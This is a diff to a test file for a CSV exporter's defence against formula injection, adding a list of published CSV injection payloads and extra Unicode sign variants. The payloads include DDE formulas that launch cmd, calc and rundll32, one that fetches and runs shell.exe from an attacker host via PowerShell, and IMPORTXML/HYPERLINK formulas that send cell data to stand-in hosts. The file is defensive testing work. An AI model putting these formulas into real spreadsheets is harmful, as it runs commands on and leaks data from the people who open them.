@@ -2,8 +2,31 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvOf, plainCell } from '../../src/domain/csv.js';
 
-/** The published payloads of OWASP's "CSV Injection" page and PayloadsAllTheThings' "CSV Injection", and what reliability tests of exporters add. */
-const attacks = [
+/**
+ * Every formula of the payload list in swisskyrepo/PayloadsAllTheThings, `CSV Injection/README.md` (commit 01a6299), and each sign that it says a formula can be
+ * started with. Its one line without such a sign, `DDE ("cmd";…`, is no formula by itself and has the sign here.
+ */
+const published = [
+  '=1+1',
+  '+1+1',
+  '–1+1',
+  '@SUM(1+1)',
+  '=DDE ("cmd";"/C calc";"!A0")A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "=2+5+cmd|' /C calc'!A0",
+  "=cmd|' /C calc'!'A1'",
+  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
+  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
+  "=         cmd|'/c calc.exe'!A",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
+  "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
+  '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
+];
+
+/** What we add: forms and places that exporters are known to miss. */
+const ours = [
   "=cmd|'/C calc'!A0",
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
   '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
@@ -32,6 +55,11 @@ const attacks = [
   '－1+1',
   '＠SUM(1)',
   '−1+1',
+  '—1+1',
+  '﹦1+1',
+  '﹢1+1',
+  '﹣1+1',
+  '﹫SUM(1)',
   '"=1+1',
   "'=1+1",
   'harmless\n=1+1',
@@ -39,6 +67,8 @@ const attacks = [
   "harmless\r=cmd|' /C calc'!A0",
   '\t\t\0\ufeff =1+1',
 ];
+
+const attacks = [...published, ...ours.filter((attack) => !published.includes(attack))];
 
 /** A reader that knows RFC 4180 and nothing else. */
 function parse(text: string): string[][] {
@@ -62,7 +92,7 @@ function parse(text: string): string[][] {
 function calculates(cell: string): boolean {
   return cell
     .split(/\r\n|[\r\n]/)
-    .some((line) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]/u.test(line) || /^[\t\0]/.test(line));
+    .some((line) => /^[\s\p{Cc}\p{Cf}]*[=+\-–—@＝＋－＠−﹦﹢﹣﹫]/u.test(line) || /^[\t\0]/.test(line));
 }
 
 describe('an exported cell', () => {
